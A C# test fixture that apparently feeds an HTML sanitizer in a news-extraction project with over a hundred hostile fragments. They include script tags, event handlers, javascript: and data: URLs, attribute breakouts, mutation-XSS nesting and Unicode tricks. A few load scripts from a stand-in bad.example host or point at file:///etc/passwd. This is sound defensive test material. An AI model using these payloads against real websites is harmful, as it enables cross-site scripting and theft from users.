namespace NewsExtract.Tests.Articles.Html;

/// <summary>Mark-up that tries to run code, or to turn into something that does once it is written and parsed again.</summary>
internal static class HostileMarkup
{
    public static readonly string[] Fragments =
    [
        // Plain scripts and handlers.
        "<script>go()</script>", "<SCRIPT SRC=//bad.example/x.js></SCRIPT>", "<scr<script>ipt>go()</scr</script>ipt>", "</p></article><script>go()</script>",
        "<img src=x onerror=go()>", "<img src=x:x onerror\t=\tgo()>", "<img/src=x/onerror=go()>", "<IMG SRC=\"x\"\"onerror=go()>", "<body onload=go()>",
        "<div style=\"background:url(javascript:go())\">x</div>", "<p style='width:expression(go())'>x</p>", "<input autofocus onfocus=go()>",
        "<details open ontoggle=go()>x</details>", "<video><source onerror=go()></video>", "<audio src=x onerror=go()>", "<marquee onstart=go()>x</marquee>",
        "<object data=javascript:go()></object>", "<embed src=javascript:go()>", "<iframe src=javascript:go()></iframe>", "<iframe srcdoc='<script>go()</script>'></iframe>",
        "<meta http-equiv=refresh content='0;url=javascript:go()'>", "<base href='javascript:go()//'>", "<link rel=stylesheet href=//bad.example/x.css>",
        "<form action=javascript:go()><button>x</button></form>", "<button formaction=javascript:go()>x</button>", "<isindex type=image src=1 onerror=go()>",

        // Addresses that run code.
        "<a href=javascript:go()>x</a>", "<a href='JaVaScRiPt:go()'>x</a>", "<a href='java\tscript:go()'>x</a>", "<a href='java\nscript:go()'>x</a>",
        "<a href='&#1;javascript:go()'>x</a>", "<a href='&#106;avascript:go()'>x</a>", "<a href='javascript&colon;go()'>x</a>", "<a href='javascript&Tab;:go()'>x</a>",
        "<a href='&#x6A&#x61vascript:go()'>x</a>", "<a href=' \u00A0javascript:go()'>x</a>", "<a href='\u2028javascript:go()'>x</a>", "<a href='vbscript:go()'>x</a>",
        "<a href='data:text/html,<script>go()</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='feed:javascript:go()'>x</a>",
        "<a href='view-source:javascript:go()'>x</a>", "<a href='blob:https://bad.example/1'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<a href='javascript:\"http://a.example\";go()'>x</a>", "<a href='http:javascript:go()'>x</a>", "<a href='\\\\bad.example\\x'>x</a>",
        "<a href='jav&#x0A;ascript:go()'>x</a>", "<a href='javascript\u200B:go()'>x</a>", "<a href='&lt;javascript:go()>'>x</a>", "<a xlink:href=javascript:go()>x</a>",
        "<img src='javascript:go()'>", "<img src='data:image/svg+xml,<svg onload=go()>'>", "<img srcset='javascript:go() 1x'>",

        // Breaking out of an attribute or of text.
        "<a href='https://a.example/\"onmouseover=\"go()'>x</a>", "<a href=\"https://a.example/'onmouseover='go()\">x</a>", "<a href='https://a.example/`onmouseover=`go()'>x</a>",
        "<a href='https://a.example/><script>go()</script>'>x</a>", "<a title='\"><script>go()</script>' href=https://a.example>x</a>",
        "<img alt='\"><script>go()</script>' src=https://a.example/1.png>", "<img alt='``onerror=go()' src=https://a.example/1.png>", "<img alt='<x' src='https://a.example/1.png?<x'>",
        "&lt;script&gt;go()&lt;/script&gt;", "&amp;lt;script&amp;gt;go()&amp;lt;/script&amp;gt;", "&#60;img src=x onerror=go()&#62;", "&lt img src=x onerror=go()&gt",
        "\"><script>go()</script>", "'><img src=x onerror=go()>", "--><script>go()</script>", "]]><script>go()</script>", "*/</style><script>go()</script>",

        // Text that is parsed in another way the second time.
        "<a href=\"x\" title=\"--><img src=x onerror=go()>\">x</a>", "<!--><img src=x onerror=go()>-->", "<!-- --!><img src=x onerror=go()>", "<!--->x<script>go()</script>-->",
        "<![CDATA[<img src=x onerror=go()>]]>", "<?xml <img src=x onerror=go()>?>", "<noscript><p title=\"</noscript><img src=x onerror=go()>\"></noscript>",
        "<style><img title=\"</style><img src=x onerror=go()>\"></style>", "<title><img title=\"</title><img src=x onerror=go()>\"></title>",
        "<textarea><img title=\"</textarea><img src=x onerror=go()>\"></textarea>", "<xmp><p title=\"</xmp><img src=x onerror=go()>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=go()>\"></noembed>", "<noframes><p title=\"</noframes><img src=x onerror=go()>\"></noframes>",
        "<iframe><img title=\"</iframe><img src=x onerror=go()>\"></iframe>", "<plaintext><img src=x onerror=go()>",
        "<template><script>go()</script></template>", "<template><p><template><img src=x onerror=go()></template></template>",
        "<svg><script>go()</script></svg>", "<svg onload=go()>", "<svg><style><img src=x onerror=go()></style></svg>", "<svg><a xlink:href=javascript:go()><text>x</text></a></svg>",
        "<svg><title><style></title><img src=x onerror=go()></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=go()>\">", "<svg><foreignObject><p><script>go()</script></foreignObject></svg>",
        "<svg><animate attributeName=href values=javascript:go() /></svg>", "<svg><desc><p></desc><style><img src=x onerror=go()></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=go()&gt;\"></mglyph></table></mtext></math>",
        "<math><annotation-xml encoding=text/html><script>go()</script></annotation-xml></math>", "<math href=javascript:go()>x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=go()>", "<form><form><input onfocus=go() autofocus></form></form>",
        "<math><mi><mglyph></mi><style><img src=x onerror=go()></style></math>", "<p><math><p><style><!--</style><img src=x onerror=go()>--></p></math></p>",
        "<table><tr><td><table><svg><style><img src=x onerror=go()>", "<select><template><option><script>go()</script></select>", "<table><a href=javascript:go()>x<tr><td>y",
        "<a href=https://a.example/1>one<a href=https://a.example/2>two</a></a>", "<b><p><i></b>x</i></p>", "<pre>\n\n<script>go()</script></pre>",
        "<listing>\n<img src=x onerror=go()></listing>", "<custom-element onclick=go()>x</custom-element>", "<image src=x onerror=go()>", "<keygen onfocus=go() autofocus>",

        // Characters that are not what they seem.
        "<scr\0ipt>go()</scr\0ipt>", "<img src=x on\0error=go()>", "\u2028<script>go()</script>\u2029", "\uD800<script>go()</script>\uDC00", "<a href='\uD83Djavascript:go()'>x</a>",
        "\uFF1Cscript\uFF1Ego()\uFF1C/script\uFF1E", "\u202E<script>go()</script>", "\uFEFF<script>go()</script>", "\uFFFF<script>go()</script>", "+ADw-script+AD4-go()+ADw-/script+AD4-",
        "<\u00A0script>go()</script>", "<a href='https://a.example/\uFFFE\uFFFF\uDBFF'>x</a>",
    ];
}
